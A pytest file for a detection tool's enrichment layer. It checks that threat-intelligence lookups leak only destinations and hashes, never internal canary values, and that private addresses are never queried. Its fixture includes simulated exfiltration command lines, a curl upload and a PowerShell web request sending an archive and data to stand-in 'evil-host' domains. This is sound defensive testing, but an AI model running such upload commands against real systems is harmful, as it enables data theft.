"""Outsiders get destinations and hashes, and nothing else of a finding: every byte of every request is searched."""

import asyncio
import base64
import json
from datetime import UTC, datetime
from typing import Any
from urllib.parse import quote, unquote_to_bytes

import httpx
import pytest

from exfilwatch.findings.finding import EvidenceEvent, Finding, FindingRule, FindingSignal
from exfilwatch_playbooks.enrichment.enrich import Enrichers
from exfilwatch_playbooks.enrichment.registry import kinds
from exfilwatch_playbooks.enrichment.subject import Subject, of_finding

from .made import means

KEY = "the-key"
HOST, USER, DOMAIN = "cnryhost7", "cnryuser7", "cnrydomain"
TIME = datetime(2024, 5, 1, 9, tzinfo=UTC)
CANARIES = [
    *(HOST, USER, DOMAIN, "cnrycommand", "cnryscript", "cnryparent", "cnryfolder", "cnrytitle", "cnrysource"),
    *("cnryfield", "cnrymatched", "cnrytask", "cnryurlpath", "cnryurlquery", "cnryurluser", "cnryurlpassword"),
    *("cnryreferrer", "cnrycookie", "cnrylabel", "cnryarchive", "cnryorg", "10.7.7.7", "192.168.77.7", "fd00:77::7"),
]  # fmt: skip
SHA256 = "ab" * 32


def finding() -> Finding:
    """A finding whose every field has a canary, and whose destinations name inside and outside places."""
    line = (
        f"C:\\cnryfolder\\cnrycommand.exe -T cnryarchive.zip "
        f"https://cnryurluser:cnryurlpassword@files.evil-host.net/cnryurlpath?x=cnryurlquery "
        f"https://{HOST}.up.evil-host.net/ https://x.{USER}.other-evil.org/ http://10.7.7.7/ "
        f"http://srv.{DOMAIN}.local/ https://intra.cnryorg.com/ https://192.168.77.7/ ftp://[fd00:77::7]/"
    )
    fields: dict[str, Any] = {
        "Image": "C:\\Windows\\System32\\curl.exe",
        "CommandLine": f"curl -T C:\\cnryfolder\\cnryarchive.zip {line}",
        "ParentCommandLine": "cnryparent --x",
        "ScriptBlockText": "iwr https://files.evil-host.net -Body cnryscript",
        "Computer": f"{HOST}.cnryorg.com",
        "User": f"{DOMAIN}\\{USER}",
        "SourceIp": "10.7.7.7",
        "DestinationHostname": "third-evil.net",
        "DestinationIp": "8.8.4.4",
        "Hashes": f"SHA256={SHA256},IMPHASH=00",
        "TaskName": "cnrytask",
        "cs-host": "fourth-evil.net",
        "cs-cookie": "cnrycookie",
        "cs-referrer": "https://cnryreferrer.example/",
        "c-uri": "http://fourth-evil.net/cnryurlpath",
    }

    def event(name: str, **more: Any) -> EvidenceEvent:
        return EvidenceEvent(
            id=f"cnryfield{name}", time=TIME, host=f"{HOST}.cnryorg.com", category="process_creation",
            product="windows", shape="x", source="cnrysource", line=1, fields={**fields, **more},
        )  # fmt: skip

    events = [
        event("a"),
        event("b", CommandLine=None, ScriptBlockText=None, DestinationHostname=f"{HOST}.up.evil-host.net"),
        event("c", CommandLine=None, ScriptBlockText=None, DestinationHostname=f"x.{USER}.other-evil.org"),
        event(
            "d",
            CommandLine=None,
            ScriptBlockText=None,
            DestinationHostname="intra.cnryorg.com",
            DestinationIp="10.7.7.7",
        ),
        event("e", CommandLine=None, ScriptBlockText=None, DestinationHostname=f"{HOST}", DestinationIp="192.168.77.7"),
    ]
    return Finding(
        id="cnryfield1",
        rule=FindingRule(id="cnrytitle", title="cnrytitle", branch="cnrytitle", level="high", attack=[]),
        score=1, time=TIME, end=TIME, host=f"{HOST}.cnryorg.com", user=f"{USER}@cnryorg.com", fields=dict(fields),
        signals=[FindingSignal(name="cnrylabel", field="CommandLine", matched="cnrymatched", start=1)],
        events=events, source="cnrysource",
    )  # fmt: skip


def tables() -> dict[str, dict[str, Any]]:
    """Every enricher that asks outsiders over HTTP, and two by template."""
    names = [name for name, found in kinds().items() if getattr(found, "outside", False) and name != "reverse_dns"]
    made: dict[str, dict[str, Any]] = {name: {"key": KEY, "per_minute": 0, "per_day": 0} for name in names}
    made["misp"]["url"], made["opencti"]["url"] = "https://misp.test", "https://cti.test"
    made["http"] |= {"url": "https://one.test", "path": "/{kind}/{value}/{algorithm}", "answers": {"A": "a"}}
    made["mine"] = {
        "kind": "http", "url": "https://two.test", "path": "/q", "method": "POST", "body": '{"q": "{value}"}',
        "answers": {"A": "a"}, "key": KEY,
    }  # fmt: skip
    return made


def sent(requests: list[httpx.Request]) -> bytes:
    """All that was sent, also as it reads unquoted, and what is Base64 in it decoded."""
    raw = b"\n".join(
        b"\n".join([str(each.url).encode(), *(name + b": " + value for name, value in each.headers.raw), each.content])
        for each in requests
    )
    plain = unquote_to_bytes(raw)
    words = [word for word in plain.replace(b"/", b" ").replace(b'"', b" ").split() if len(word) % 4 == 0]
    decoded = []
    for word in words:
        try:
            decoded.append(base64.b64decode(word, validate=True))
        except ValueError:
            continue
    return b"\n".join([raw, plain, *decoded]).lower()


def forms(canary: str) -> list[bytes]:
    """A canary as it may be written."""
    digits = [canary.encode().hex(), json.dumps(canary)[1:-1], quote(canary), canary[::-1], canary]
    return [each.lower().encode() for each in digits]


def asked(httpx_mock, subject: Subject) -> list[httpx.Request]:
    async def ask():
        async with Enrichers(tables(), means()) as enrichers:
            (made,) = await enrichers.enrich([subject])
            return made

    asyncio.run(ask())
    found: list[httpx.Request] = httpx_mock.get_requests()
    return found


@pytest.mark.httpx_mock(can_send_already_matched_responses=True)
def test_no_request_to_an_outsider_holds_anything_but_destinations_and_hashes(httpx_mock):
    httpx_mock.add_response(json={})
    subject = of_finding(finding())
    requests = asked(httpx_mock, subject)
    hosts = {each.url.host for each in requests}
    assert len(hosts) == len(tables())  # every one was asked
    everything = sent(requests)
    assert [each for each in CANARIES if any(form in everything for form in forms(each))] == []
    # What may be known was asked about, so that the search above has something to search.
    for expected in ("files.evil-host.net", "third-evil.net", "8.8.4.4", SHA256):
        assert expected.encode() in everything


@pytest.mark.httpx_mock(can_send_already_matched_responses=True)
@pytest.mark.parametrize(
    "address",
    [
        *("10.0.0.1", "172.16.5.5", "192.168.1.1", "127.0.0.1", "169.254.1.1", "100.64.3.3", "224.0.0.1", "0.0.0.0"),
        *(
            "198.51.100.1",
            "fe80::1",
            "fd12:3456::1",
            "::1",
            "ff02::1",
            "::ffff:192.168.1.1",
            "64:ff9b::10.0.0.1",
            "2002:a00:1::1",
        ),
    ],
)
def test_private_addresses_are_never_asked_about(httpx_mock, address):
    httpx_mock.add_response(json={}, is_optional=True)
    event = finding().events[0].model_copy(update={"fields": {"DestinationIp": address}})
    only = finding().model_copy(update={"events": [event], "fields": {}})
    assert asked(httpx_mock, of_finding(only)) == []


def test_what_an_outsider_is_given_has_room_for_nothing_else():
    for name, found in kinds().items():
        if getattr(found, "outside", False):
            (given,) = list(found.look_up.__annotations__.items())[:1]
            assert given[0] == "given", name
            assert getattr(given[1], "__name__", given[1]) == "Indicator", name
